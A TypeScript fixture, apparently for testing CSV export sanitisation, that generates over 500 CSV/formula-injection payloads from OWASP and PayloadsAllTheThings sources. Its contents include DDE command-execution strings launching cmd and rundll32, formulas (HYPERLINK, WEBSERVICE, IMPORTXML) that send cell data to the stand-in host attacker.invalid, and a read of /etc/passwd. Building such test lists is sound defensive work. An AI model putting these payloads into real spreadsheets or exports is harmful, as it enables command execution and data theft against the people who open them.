/**
 * 500 and more cells that some spreadsheet would run: every way to begin a formula, before every thing a formula can do.
 * Beginnings and contents after OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection) and
 * PayloadsAllTheThings, CSV Injection (https://github.com/swisskyrepo/PayloadsAllTheThings, folder CSV Injection);
 * written anew, with addresses that nobody has.
 */
const beginnings = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '  =', '\t', '\r', '\n', '=-', '=+', '-+', '+-', '@='],
  ...[
    '＝',
    '＋',
    '－',
    '＠',
    ' ＝',
    '\u00a0=',
    '\u3000=',
    '\u200b=',
    '\ufeff=',
    '\u2060=',
    '\u0000=',
    '\t\t=',
    '\v=',
    '\f=',
  ],
  ...[
    '\u2028=',
    '\u0085=',
    '\u200e=',
    '\u202e=',
    '"=',
    "'=",
    '"";=',
    ';=',
    ',=',
    ',,=',
    '\r\n=',
    '\n\n=',
    '=\n',
    '|=',
    '%=',
  ],
];

const contents = [
  '1+2',
  'SUM(1;2)',
  "cmd|' /C calc'!A0",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'HYPERLINK("http://attacker.invalid/?leak="&A1;"Error: click here")',
  'WEBSERVICE("http://attacker.invalid/"&A1)',
  'IMPORTXML(CONCAT("http://attacker.invalid/?v="; A1); "//a")',
  "'file:///etc/passwd'#$passwd.A1",
  'DDE("cmd";"/C calc";"x")',
  'IF(1;"a";"b")&CHAR(10)',
  'A1*2',
  "2+5+cmd|' /C calc'!A0,\"more",
];

export const csvPayloads: readonly string[] = beginnings.flatMap((beginning) =>
  contents.map((content) => beginning + content),
);
